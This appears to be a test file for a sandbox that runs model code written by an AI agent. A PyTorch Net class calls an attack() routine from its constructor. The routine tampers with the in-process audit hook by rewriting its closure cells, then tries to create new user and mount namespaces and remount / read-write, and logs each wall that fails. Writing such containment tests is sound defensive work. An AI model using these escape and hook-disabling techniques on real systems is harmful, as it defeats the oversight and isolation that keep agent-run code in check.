# class: escape
# wall: seccomp: unshare, setns and mount are refused; no capabilities in the jail
# attack: makes a new user namespace to regain capabilities, then remounts / read-write
import json
import os
import sys

import torch
import torch.nn as nn
import torch.nn.functional as F

SECRET = "NAS-AGENT-SECRET-"           # the test plants files and variables starting with this
MARKER = "nas-agent-escape-marker"     # any process still carrying this after the run escaped


def supported_hyperparameters():
    return {"lr", "momentum", "dropout"}


def disarm():
    """Take the in-process audit hook apart (as a hostile file would), so only the OS walls are left."""
    import gc
    for obj in gc.get_objects():
        if callable(obj) and getattr(obj, "__qualname__", "") == "install.<locals>.hook" and obj.__closure__:
            for name, cell in zip(obj.__code__.co_freevars, obj.__closure__):
                if name == "roots":
                    cell.cell_contents = ("",)          # every absolute path is now "inside"
                elif name.endswith("_events"):
                    cell.cell_contents = type(cell.cell_contents)()


def attack(achieved):
    disarm()
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(0x10000000 | 0x00020000) == 0:  # CLONE_NEWUSER | CLONE_NEWNS
        achieved.append("made new namespaces")
    if libc.mount(b"none", b"/", None, 32 | 4096, None) == 0:  # MS_REMOUNT | MS_BIND
        achieved.append("remounted /")
    if libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None) == 0:
        achieved.append("mounted a tmpfs")


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        achieved = []                  # each entry: a wall that did not hold
        record(achieved)
        attack(achieved)
        record(achieved)
        self.conv = nn.Conv2d(in_shape[1], 8, 3, padding=1)
        self.head = nn.Linear(8, out_shape[0])

    def forward(self, x):
        return self.head(F.relu(self.conv(x)).mean((2, 3)))

    def train_setup(self, prm):
        self.optimizer = torch.optim.SGD(self.parameters(), lr=prm["lr"], momentum=prm["momentum"])

    def learn(self, train_data):
        for x, y in train_data:
            self.optimizer.zero_grad()
            F.cross_entropy(self(x), y).backward()
            self.optimizer.step()


def record(achieved):
    with open("proof.json", "w") as f:
        json.dump({"achieved": achieved}, f)
